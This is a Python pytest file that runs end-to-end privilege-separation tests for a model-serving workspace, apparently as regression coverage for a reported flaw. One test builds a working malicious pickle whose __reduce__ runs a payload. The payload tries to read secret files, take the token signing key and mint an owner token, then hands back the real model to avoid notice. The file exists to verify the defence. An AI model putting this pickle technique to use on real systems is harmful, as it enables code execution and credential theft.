"""User code runs as the unprivileged runner and cannot reach the workspace's secrets.

Issue 10, finding 1: an uploaded model's pickle ran as root inside the endpoint process,
read the token signing key from `secrets.json` and minted an owner token. Here a real
supervisor (run as root, as in production) starts real endpoint processes: they must run
as `shipyard`, and a model whose unpickling tries to read the key files and mint a token
gets nothing, while the endpoint still serves.

Root only: without root there is no other user to switch to (see `_privileges`). The
workspace lives in a folder of its own under the system's temporary folder, removed at
the end, not in `tmp_path`: pytest keeps its folders 0700 (and resets that at every
session start), so the runner could never reach a workspace there.
"""

from __future__ import annotations

import json
import os
import pickle
import pwd
import shutil
import stat
import subprocess
import sys
import sysconfig
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import shipyard
from shipyard.workspace import LocalWorkspace
from shipyard.workspace._privileges import Runner, blocker, find_runner
from shipyard.workspace.supervisor import try_lock
from tests.fixtures.automl import fast_settings, make_frame
from tests.fixtures.servers import wait_until

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.timeout(240),
    pytest.mark.skipif(os.geteuid() != 0, reason="switching users needs root"),
]

SECRET_FILES = (
    "secrets.json",
    "config.json",
    "shipyard.db",
    "shipyard.db-wal",
    "shipyard.db-shm",
    "supervisor.log",
)


def _python_for(runner: Runner) -> tuple[str, dict[str, str]]:
    """An interpreter the runner can execute, with this checkout's packages on its path.

    This Python if the runner can reach it; otherwise (on a machine whose Python lives in
    a private home, e.g. pyenv under /root) the system's Python of the same minor version,
    pointed at the same site-packages and source tree.
    """
    paths = [str(Path(shipyard.__file__).parents[1]), sysconfig.get_paths()["purelib"]]
    env = {"PYTHONPATH": os.pathsep.join(paths)}
    if blocker(runner, Path(sys.executable)) is None:
        return sys.executable, env
    minor = f"python{sys.version_info.major}.{sys.version_info.minor}"
    system = shutil.which(minor, path="/usr/local/bin:/usr/bin")
    why = blocker(runner, Path(sys.executable))
    if system is None or blocker(runner, Path(system)) is not None:
        pytest.skip(f"the runner cannot execute {sys.executable} ({why}) and no {minor} it can")
    return system, env


@pytest.fixture(scope="module")
def runner() -> Runner:
    found = find_runner({"SHIPYARD_RUN_AS": "shipyard"})
    assert found is not None
    return found


@pytest.fixture(scope="module")
def served(runner: Runner) -> Iterator[dict[str, Any]]:
    """A workspace with model `good:1` and `:2`, supervised by a real supervisor (root);
    this process deploys as a root server would (tests/conftest.py sets the runner root)."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SHIPYARD_RUN_AS", runner.name)
        yield from _served(runner)


def _served(runner: Runner) -> Iterator[dict[str, Any]]:
    base = Path(tempfile.mkdtemp(prefix="shipyard-trust-"))
    base.chmod(0o711)
    try:
        folder = base / "ws"
        with LocalWorkspace.open(folder) as ws:
            ws.register_dataset("toy", make_frame("binary", seed=0))
            run = ws.automl("toy", fast_settings(allowed_learners=("linear",)), experiment="toy")
            ws.register_model("good", run.id)
            ws.register_model("good", run.id)
        # As an older Shipyard left them: 0644; opening the workspace makes them 0600.
        (folder / "config.json").write_text('{"client_secret": "sps_owner"}')
        (folder / "supervisor.log").write_text("")
        python, env = _python_for(runner)
        environ = {**os.environ, **env, "SHIPYARD_RUN_AS": "shipyard"}
        environ["SHIPYARD_SUPERVISOR_IDLE_S"] = "600"
        log = (base / "supervisor.out").open("ab")
        argv = [python, "-m", "shipyard.workspace.supervisor", "--workspace", str(folder)]
        process = subprocess.Popen(argv, env=environ, stdout=log, stderr=subprocess.STDOUT)
        ws = LocalWorkspace.open(folder)
        try:
            wait_until(lambda: _locked(folder), 60, "supervisor start")
            yield {"ws": ws, "folder": folder, "base": base, "supervisor": process}
        finally:
            for endpoint in ws.list_endpoints():
                ws.delete_endpoint(endpoint.name)
            process.terminate()
            process.wait(timeout=30)
            log.close()
            ws.close()
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _locked(folder: Path) -> bool:
    lock = try_lock(folder)
    if lock is None:
        return True
    lock.close()
    return False


def _pids(ws: LocalWorkspace, name: str) -> list[int]:
    (row,) = [r for r in ws.endpoint_rows() if r.name == name]
    return list(row.pids["pids"])


def _ids(pid: int) -> dict[str, list[int]]:
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    fields = dict(line.split(":", 1) for line in lines)
    return {key: [int(v) for v in fields[key].split()] for key in ("Uid", "Gid", "Groups")}


def _as_runner(runner: Runner, python: str, code: str) -> str:
    done = subprocess.run(
        [python, "-c", code],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        **runner.popen_options(),
    )
    return done.stdout + done.stderr


def test_endpoint_processes_run_as_the_runner_and_cannot_open_the_secrets(served, runner):
    ws, folder = served["ws"], served["folder"]
    endpoint = ws.deploy_endpoint("plain", "good:1", auth_mode="key", wait_s=120)
    assert endpoint.state.value == "healthy"
    (pid,) = _pids(ws, "plain")
    ids = _ids(pid)
    assert ids["Uid"] == [runner.uid] * 4
    assert ids["Gid"] == [runner.gid] * 4
    assert ids["Groups"] == []
    assert "SHIPYARD_DB_URL" not in Path(f"/proc/{pid}/environ").read_bytes().decode()
    rows = make_frame("binary", seed=1).drop(columns="y")[:3].to_dict("records")
    assert len(ws.invoke_endpoint("plain", rows)["result"]) == 3
    # Another version, swapped in without a restart: the runner may read that one too.
    updated = ws.update_endpoint("plain", model="good:2", logging=True, wait_s=120)
    assert (updated.model, _pids(ws, "plain")) == ("good:2", [pid]), ws.endpoint_logs("plain")
    assert len(ws.invoke_endpoint("plain", rows)["result"]) == 3

    modes = {name: stat.S_IMODE((folder / name).stat().st_mode) for name in SECRET_FILES}
    assert modes == dict.fromkeys(SECRET_FILES, 0o600)
    info = folder.stat()
    assert (stat.S_IMODE(info.st_mode), info.st_gid) == (0o710, runner.gid)
    endpoint_dir = ws.endpoint_dir("plain")
    assert stat.S_IMODE(endpoint_dir.stat().st_mode) == 0o2750
    assert stat.S_IMODE(ws.endpoint_log_path("plain").stat().st_mode) == 0o600
    assert (endpoint_dir / "requests").stat().st_uid == runner.uid

    python, env = _python_for(runner)
    probe = (
        "import os, sys\n"
        "for path in sys.argv[1:]:\n"
        "    try:\n"
        "        open(path, 'rb').close(); print('READ', path)\n"
        "    except OSError as exc: print(type(exc).__name__, path)\n"
        "try: os.listdir(sys.argv[1].rsplit('/', 1)[0]); print('LISTED')\n"
        "except OSError as exc: print(type(exc).__name__, 'listing')\n"
    )
    targets = [str(folder / name) for name in SECRET_FILES]
    targets.append(str(ws.endpoint_log_path("plain")))
    done = subprocess.run(
        [python, "-c", probe, *targets],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        env={**os.environ, **env},
        **runner.popen_options(),
    )
    lines = done.stdout.splitlines()
    assert lines == [f"PermissionError {t}" for t in targets] + ["PermissionError listing"], (
        done.stdout + done.stderr
    )


_PAYLOAD = """
import json, os
loot = {"uid": os.getuid(), "env_db_url": "SHIPYARD_DB_URL" in os.environ}
for name, path in TARGETS.items():
    try:
        with open(path, "rb") as handle:
            loot[name] = "read %d bytes" % len(handle.read())
    except OSError as exc:
        loot[name] = type(exc).__name__
try:
    with open(TARGETS["secrets"]) as handle:
        key = json.load(handle)["token_private_key"]
    from shipyard.auth.tokens import issue_token
    loot["token"] = issue_token(key, "owner", role="owner", audience="shipyard")
except Exception as exc:
    loot["token"] = type(exc).__name__
with open(LOOT, "w") as out:
    json.dump(loot, out)
"""


class _Evil:
    """Pickles as: run the payload, then hand back the real model (so nothing looks off)."""

    def __init__(self, code: str, model_bytes: bytes) -> None:
        self.expression = f"(exec({code!r}), __import__('pickle').loads({model_bytes!r}))[1]"

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (eval, (self.expression,))


def test_a_model_whose_unpickling_reads_the_key_and_mints_a_token_gets_nothing(served, runner):
    """The attack of finding 1, through the upload route (signed manifest) this time."""
    ws, folder, base = served["ws"], served["folder"], served["base"]
    loot_dir = base / "loot"
    loot_dir.mkdir(mode=0o700)
    os.chown(loot_dir, runner.uid, runner.gid)
    targets = {
        "secrets": str(folder / "secrets.json"),
        "config": str(folder / "config.json"),
        "db": str(folder / "shipyard.db"),
    }
    code = f"TARGETS = {targets!r}\nLOOT = {str(loot_dir / 'loot.json')!r}\n{_PAYLOAD}"
    crafted = base / "crafted"
    shutil.copytree(ws.model_folder("good", 1), crafted)
    real = pickle.dumps(__import__("joblib").load(crafted / "model.joblib"))
    (crafted / "model.joblib").write_bytes(pickle.dumps(_Evil(code, real)))
    descriptor = json.loads((crafted / "descriptor.json").read_text())
    descriptor["model_sha256"] = (
        __import__("hashlib").sha256((crafted / "model.joblib").read_bytes()).hexdigest()
    )
    (crafted / "descriptor.json").write_text(json.dumps(descriptor))
    version = ws.upload_model("evil", crafted, uploaded_by="sp_contributor")

    endpoint = ws.deploy_endpoint("evil", f"evil:{version.version}", wait_s=120)
    loot = json.loads(wait_until(lambda: _read(loot_dir / "loot.json"), 60, "the payload"))
    assert loot == {
        "uid": runner.uid,
        "env_db_url": False,
        "secrets": "PermissionError",
        "config": "PermissionError",
        "db": "PermissionError",
        "token": "PermissionError",
    }
    assert endpoint.state.value == "healthy"  # the model itself still serves
    assert pwd.getpwuid(_ids(_pids(ws, "evil")[0])["Uid"][0]).pw_name == "shipyard"


def _read(path: Path) -> str | None:
    try:
        return path.read_text() or None
    except FileNotFoundError:
        return None
